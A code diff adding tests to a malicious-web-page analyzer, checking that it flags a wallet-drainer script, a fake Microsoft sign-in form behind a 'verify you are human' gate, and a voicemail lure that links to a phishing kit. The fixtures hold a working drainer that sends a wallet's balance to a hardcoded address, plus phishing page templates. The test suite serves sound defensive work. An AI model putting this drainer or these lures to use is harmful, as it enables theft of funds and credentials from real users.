@@ -798,6 +798,46 @@ describe('analysis: signal rules', () => {
     });
   });
 
+  describe("what the browser engine adds: the page's own fetched scripts, the page after a click, the page behind a lure's call to action", () => {
+    const judge = (url: string, body: string, extra: Partial<AnalysisInput>): ReturnType<typeof analyze> => {
+      const result = analyze({ ...inputFromFetch(html(url, body)), renderedHtml: body, ...extra }, { threatIntel: ThreatIntelIndex.empty(), rules });
+      for (const s of result.signals) produced.add(s.id);
+      return result;
+    };
+    const kitScript = "document.getElementById('go').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const b=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x4E2c1b7D9a3F5e8C0b2D4f6A8c1E3a5B7d9F0e21',value:'0x'+(b-10n**15n).toString(16)}]});};";
+    const page = '<title>Claim your airdrop</title><h1>Claim your tokens</h1><p>Eligible wallets can claim their allocation before the deadline.</p><button id="go">Connect wallet</button><script src="/static/app.js"></script>';
+
+    it("a script the page fetched from its own site is read like an inline one; a library from another site is not the page's words", () => {
+      const own = judge('https://claim-rewards-hub.example/', page, { fetchedTexts: [{ url: 'https://claim-rewards-hub.example/static/app.js', resourceType: 'script', mimeType: 'text/javascript', text: kitScript, truncated: false }] });
+      assert.equal(own.verdict, 'malicious');
+      assert.ok(own.categories.includes('cryptodrainer'));
+      const thirdParty = judge('https://claim-rewards-hub.example/', page, { fetchedTexts: [{ url: 'https://cdn.libs.example/app.js', resourceType: 'script', mimeType: 'text/javascript', text: kitScript, truncated: false }] });
+      assert.ok(!thirdParty.signals.some((x) => x.id === 'wallet-balance-sweep'));
+    });
+
+    it('the page after the capture clicked its gate is judged with it', () => {
+      const gate = '<title>Just a moment...</title><h1>Verify you are human</h1><div id="cb">Verify you are human</div>';
+      const after = '<title>Sign in to your account</title><img src="/ms.svg" alt="Microsoft"><form method="post" action="/auth"><input name="loginfmt"><input type="password" name="passwd"></form>';
+      assert.equal(judge('https://secure-doc-view.example/s/1', gate, {}).verdict, 'clean');
+      const r = judge('https://secure-doc-view.example/s/1', gate, { afterInteraction: { url: 'https://secure-doc-view.example/s/1', html: after, action: 'click:Verify you are human' } });
+      assert.equal(r.verdict, 'malicious');
+      assert.ok(r.categories.includes('phishing'));
+    });
+
+    it("a lure whose call to action leads to a kit on another site carries the kit's verdict; one leading to a brand's own sign-in does not", () => {
+      const lure = '<title>New voice message</title><h2>Voicemail</h2><p>You have a new voice message (0:47).</p><a href="https://voice-portal.example/auth/">Play voice message</a>';
+      const kit = '<title>Sign in</title><img src="/ms.svg" alt="Microsoft"><h2>Enter password</h2><form method="post" action="/p.php"><input type="password" name="p"></form>';
+      const r = judge('https://vm-notify-center.example/m/1', lure, { linkedPage: { url: 'https://voice-portal.example/auth/', html: kit, via: 'link:Play voice message' } });
+      assert.equal(r.verdict, 'malicious');
+      assert.ok(r.decidedBy?.includes('combo:linked-kit'));
+      assert.match(r.signals.find((x) => x.id === 'linked-page-malicious')?.evidence ?? '', /voice-portal\.example/);
+      const brandOwn = judge('https://files.kestrel-architects.example/s/8', '<title>Shared files – Kestrel Architects</title><p>Maria shared 3 files with you.</p><a href="https://login.microsoftonline.com/common/oauth2/authorize">Sign in with Microsoft</a>', {
+        linkedPage: { url: 'https://login.microsoftonline.com/common/oauth2/authorize', html: '<title>Sign in to your account</title><img alt="Microsoft"><form><input name="loginfmt"><input type="password" name="passwd"></form>', via: 'link:Sign in with Microsoft' },
+      });
+      assert.equal(brandOwn.verdict, 'clean');
+    });
+  });
+
   describe('rendered capture', () => {
     it('capture-incomplete: info only, naming what the capture cut short; a rendered download is judged by the download lists', () => {
       const capture = { engine: 'browser' as const, requests: [], requestsTruncated: false, console: [], cookies: [], favicon: null, incidents: ['dialogs-dismissed', 'script-terminated'], downloads: [{ url: 'blob:https://www.example.com/x', filename: 'invoice.exe', mimeType: null, bytes: 2, sha256: null, magic: null }] };
